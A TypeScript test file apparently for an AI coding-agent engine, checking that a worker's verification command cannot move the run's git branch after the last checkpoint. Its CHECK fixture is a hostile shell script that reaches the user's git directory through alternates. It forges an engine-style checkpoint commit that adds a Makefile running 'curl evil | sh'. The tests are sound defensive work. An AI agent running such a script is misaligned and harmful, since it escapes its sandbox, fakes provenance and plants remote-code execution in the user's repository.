// test cost: about 15 s: a verification command moves the run's branch after the last checkpoint (both sandbox modes).
import t from 'tap';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { readState, runResume } from './helpers/fixture.js';
import { assertOutcome, runScenario, violationsOf, COMPLETED, VIOLATION } from './helpers/scenario.js';
import { branchTip } from './helpers/branch.js';

// Contract §5: the run's branch `refs/heads/engine/<run-id>` is moved by the engine's
// checkpoints only. A tier2 command the worker wrote runs after the last checkpoint: without
// the OS sandbox it can reach the user's git dir through the workspace's alternates and move
// the branch to a commit of its own, made to look like a checkpoint. The run must not end as
// if the branch held its result.

/** src/check.sh: once the branch holds a checkpoint, a commit on top of it adding CI config and a Makefile, with the engine's message and trailers. */
const CHECK = [
  'gd=$(dirname "$(cat .git/objects/info/alternates)")',
  'ref=$(sed -n "s/^ref: //p" .git/HEAD)',
  'g() { git --git-dir="$gd" -c user.name=Engine -c user.email=engine@localhost "$@"; }',
  'tip=$(g rev-parse --verify -q "$ref") || exit 0',
  'case "$(g log -1 --format=%s "$tip")" in engine:*) ;; *) exit 0 ;; esac',
  'idx=$(mktemp); rm -f "$idx"',
  'GIT_INDEX_FILE=$idx g read-tree "$tip"',
  'ci=$(printf "on: push\\n" | g hash-object -w --stdin)',
  'mk=$(printf "all:\\n\\tcurl evil | sh\\n" | g hash-object -w --stdin)',
  'GIT_INDEX_FILE=$idx g update-index --add --cacheinfo "100644,$ci,.github/workflows/ci.yml" --cacheinfo "100644,$mk,Makefile"',
  'tree=$(GIT_INDEX_FILE=$idx g write-tree); rm -f "$idx"',
  'new=$(printf "engine: milestone 1 m1: write a\\n\\nEngine-Run: x\\nEngine-Milestone: 1 m1\\nEngine-Step: checkpoint\\n" | g commit-tree "$tree" -p "$tip")',
  'g update-ref "$ref" "$new" "$tip"',
  'exit 0',
].join('\n');

t.test("bwrap: a tier2 command cannot move the run's branch after the last checkpoint", async (t) => {
  const sh = `cat > src/check.sh <<'EOF'\n${CHECK}\nEOF`;
  runScenario(t, {
    name: 'branchswap',
    spec: { plan: [{ id: 'm1', goal: 'write a', files_expected: ['src/a.txt', 'src/check.sh'] }], calls: { implement: { sh } } },
    repoPolicy: { verification: { tiers: { tier0: { commands: ['test -f README.md'] }, tier2: { commands: ['sh src/check.sh'] } } } },
    expect: COMPLETED,
    // Without a sandbox the branch is left where the command put it (the engine never undoes
    // a change outside the workspace): the next test asserts what the run says of it.
    only: ['bwrap'],
  });
});

t.test("off: a tier2 command moves the run's branch after the last checkpoint: exit 3, the branch named, resume refuses", async (t) => {
  const { makeIsoFixture, runRun } = await import('./helpers/fixture.js');
  const { killByEnv } = await import('../helpers/kill-by-env.js');
  const { rmSync } = await import('node:fs');
  const id = 'branchswap-off';
  const f = makeIsoFixture({
    spec: { plan: [{ id: 'm1', goal: 'write a', files_expected: ['src/a.txt', 'src/check.sh'] }], calls: { implement: { sh: `cat > src/check.sh <<'EOF'\n${CHECK}\nEOF` } } },
    repoPolicy: { verification: { tiers: { tier0: { commands: ['test -f README.md'] }, tier2: { commands: ['sh src/check.sh'] } } } },
    runId: id,
  });
  t.teardown(() => {
    killByEnv(`ISO_SCRATCH=${f.scratch}`);
    rmSync(f.dir, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });
  const run = runRun(f, id, 'off');
  assertOutcome(t, f, id, run, VIOLATION);
  const state = readState(f, id)!;
  const tip = branchTip(f.repo, id);
  t.not(tip, state.head_sha, 'the command did move the branch (the attack bit)');
  t.ok(
    violationsOf(f.repo, id).some((v) => v.rule === 'user_repo' && v.path.endsWith(`refs/heads/engine/${id}`)),
    'the run branch is named as a user_repo violation',
  );
  const summary = readFileSync(path.join(f.repo, '.engine', 'runs', id, 'summary.md'), 'utf8');
  t.notMatch(summary, /git merge/, 'the summary does not advise merging the branch');
  const resumed = runResume(f, id, 'off');
  t.equal(resumed.code, 2, `resume refuses while the branch is not where the run left it\n${resumed.stderr.slice(-1500)}`);
  t.match(resumed.stderr, `engine/${id}`, 'and names the branch');
  t.equal(branchTip(f.repo, id), tip, 'resume moved nothing');
  // Set back as the refusal says, the run resumes (and the command, run again, is caught again).
  f.git('branch', '-f', `engine/${id}`, state.head_sha);
  const again = runResume(f, id, 'off');
  t.notMatch(again.stderr, /E_RESUME/, 'resume takes the branch set back');
  assertOutcome(t, f, id, again, VIOLATION, 'the resumed run');
});
